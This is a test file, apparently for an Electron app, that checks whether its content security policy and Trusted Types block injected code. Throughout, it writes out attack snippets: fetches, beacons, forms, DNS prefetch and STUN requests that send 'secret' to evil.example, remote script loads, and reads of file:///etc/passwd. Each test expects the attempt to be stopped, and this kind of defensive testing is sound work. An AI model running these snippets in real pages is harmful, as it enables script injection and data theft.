import { attackedApp } from '../helpers/attacked-app'
import { expect, test } from '../helpers/electron'
import { inPage } from '../helpers/raw-port'

const session = attackedApp()

test.describe('content security policy', () => {
  const attacks = [
    { name: 'eval', code: 'return eval("1")', says: 'threw EvalError' },
    { name: 'new Function', code: 'return new Function("return 1")()', says: 'threw EvalError' },
    { name: 'innerHTML (Trusted Types)', code: 'document.body.innerHTML = "<b>"', says: 'threw TypeError' },
    {
      name: 'srcdoc (Trusted Types)',
      code: 'document.createElement("iframe").srcdoc = "<b>"',
      says: 'threw TypeError',
    },
    {
      name: 'a policy of another name (Trusted Types)',
      code: 'trustedTypes.createPolicy("mine", { createHTML: (h) => h })',
      says: 'threw TypeError',
    },
    {
      name: 'fetch of another host',
      code: 'await fetch("https://evil.example/?q=secret")',
      says: 'threw TypeError',
    },
    { name: 'fetch of a file', code: 'await fetch("file:///etc/passwd")', says: 'threw TypeError' },
    {
      name: 'fetch of another app host',
      code: 'await fetch("app://other/index.html")',
      says: 'threw TypeError',
    },
    {
      name: 'XMLHttpRequest of a file',
      code: `return new Promise((d) => { const x = new XMLHttpRequest(); x.onload = () => d('loaded'); x.onerror = () => d('error'); x.open('GET', 'file:///etc/passwd'); x.send() })`,
      says: 'error',
    },
    {
      name: 'EventSource',
      code: 'return new Promise((d) => { const e = new EventSource("https://evil.example/"); e.onerror = () => { e.close(); d("error") } })',
      says: 'error',
    },
    {
      name: 'an image of the disk',
      code: 'return new Promise((d) => { const i = new Image(); i.onload = () => d("loaded"); i.onerror = () => d("error"); i.src = "file:///etc/passwd" })',
      says: 'error',
    },
    {
      name: 'a service worker',
      code: 'await navigator.serviceWorker.register("/sw.js")',
      says: 'threw TypeError',
    },
  ]
  for (const { name, code, says } of attacks) {
    test(`stops ${name}`, async () => {
      expect(await inPage(session().page, code)).toBe(says)
    })
  }

  const elements = [
    {
      name: 'an inline script',
      code: `add('script', { nonce: '' }, policy.createScript('globalThis.pwned = 1'))`,
      rule: 'script-src-elem',
    },
    {
      name: 'a remote script',
      code: `add('script', { src: policy.createScriptURL('https://evil.example/x.js') })`,
      rule: 'script-src-elem',
    },
    {
      name: 'an inline handler',
      code: `add('img', { src: 'data:,' }).setAttribute('onerror', policy.createScript('globalThis.pwned = 1'))`,
      rule: 'script-src-attr',
    },
    {
      name: 'a remote image',
      code: `add('img', { src: 'https://evil.example/?q=secret' })`,
      rule: 'img-src',
    },
    { name: 'a remote frame', code: `add('iframe', { src: 'https://evil.example/' })`, rule: 'frame-src' },
    {
      name: 'a frame of data',
      code: `add('iframe', { src: 'data:text/html,<script>1</script>' })`,
      rule: 'frame-src',
    },
    { name: 'a frame of our own page', code: `add('iframe', { src: '/index.html' })`, rule: 'frame-src' },
    {
      name: 'an object',
      code: `add('object', { data: policy.createScriptURL('https://evil.example/x.swf') })`,
      rule: 'object-src',
    },
    {
      name: 'a remote style',
      code: `add('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' })`,
      rule: 'style-src-elem',
    },
    {
      name: 'a remote import of a style',
      code: `add('style', {}, '@import url(https://evil.example/x.css)')`,
      rule: 'style-src-elem',
    },
    {
      name: 'a remote url of a style',
      code: `add('style', {}, 'body { background: url(https://evil.example/x.png) }')`,
      rule: 'img-src',
    },
    {
      name: 'a remote font',
      code: `add('style', {}, '@font-face { font-family: e; src: url(https://evil.example/f) } body { font-family: e }'); document.body.append('x')`,
      rule: 'font-src',
    },
    {
      name: 'a form',
      code: `const f = add('form', { action: 'https://evil.example/', method: 'post' }); f.submit()`,
      rule: 'form-action',
    },
    { name: 'a base address', code: `add('base', { href: 'https://evil.example/' })`, rule: 'base-uri' },
    {
      name: 'a prefetch',
      code: `add('link', { rel: 'prefetch', href: 'https://evil.example/p' })`,
      rule: 'default-src',
    },
    {
      name: 'a beacon',
      code: `navigator.sendBeacon('https://evil.example/b', 'secret')`,
      rule: 'connect-src',
    },
    {
      name: 'a WebSocket',
      code: `try { new WebSocket('wss://evil.example/') } catch {}`,
      rule: 'connect-src',
    },
    { name: 'a video', code: `add('video', { src: 'https://evil.example/v' })`, rule: 'media-src' },
  ]
  for (const { name, code, rule } of elements) {
    test(`stops ${name} by ${rule}`, async () => {
      const answer = await inPage(
        session().page,
        `const policy = trustedTypes.createPolicy('dompurify', { createScript: (s) => s, createScriptURL: (s) => s })
         const add = (name, properties, text) => {
           const element = Object.assign(document.createElement(name), properties)
           if (text) element.append(text)
           if (text && name === 'script') element.textContent = text
           return document.body.appendChild(element)
         }
         const violation = new Promise((done) => document.addEventListener('securitypolicyviolation', done, { once: true }))
         ${code}
         return { rule: (await violation).effectiveDirective, pwned: globalThis.pwned ?? null }`,
      )
      expect(answer).toEqual({ rule, pwned: null })
    })
  }

  test('names that a page can ask for without a request are not resolved', async () => {
    const asked = await inPage(
      session().page,
      `for (const rel of ['dns-prefetch', 'preconnect']) {
         document.head.append(Object.assign(document.createElement('link'), { rel, href: 'https://secret.' + rel + '.evil.example' }))
       }
       const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:secret.stun.evil.example:3478' }] })
       connection.createDataChannel('x')
       await connection.setLocalDescription(await connection.createOffer())
       await new Promise((done) => {
         connection.onicegatheringstatechange = () => connection.iceGatheringState === 'complete' && done()
         if (connection.iceGatheringState === 'complete') done()
       })
       connection.close()
       return 'asked'`,
    )
    expect(asked).toBe('asked')
    // What came of it is looked at after the last test, when the record of the network is complete.
  })
})
